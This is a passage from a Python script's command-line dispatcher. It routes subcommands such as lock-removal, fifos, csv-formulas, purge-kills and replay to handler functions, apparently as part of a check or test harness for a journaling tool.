        memory(args[0], args[1], int(args[2]), int(args[3]), args[4])
    elif cmd == "big-journal":
        print(big_journal(args[0], int(args[1])))
    elif cmd == "lock-removal":
        lock_removal(args[0], args[1], args[2], int(args[3]), int(args[4]))
    elif cmd == "numbers":
        numbers(*args)
    elif cmd == "check-writers":
        check_beside_writers(args[0], args[1], args[2], int(args[3]))
    elif cmd == "fifos":
        fifos(*args)
    elif cmd == "size-limit":
        size_limit(*args)
    elif cmd == "csv-formulas":
        csv_formulas(*args)
    elif cmd == "purge-kills":
        purge_kills(*args)
    elif cmd == "migrate-kills":
        migrate_kills(args[0], args[1], args[2], int(args[3]))
    elif cmd == "shared":
        shared(*args)
    elif cmd == "meeting-clock":
        meeting_clock(*args)
    elif cmd == "duplicate-key":
        duplicate_key_line(*args)
    elif cmd == "backup-killed":
        backup_killed(args[0], args[1], args[2], int(args[3]))
    elif cmd == "replay":
        p = replay_problems(args[0])
        result(not p, f"replay {args[0]}", "; ".join(p[:4]))
    else:
        sys.exit(f"unknown subcommand {cmd}")
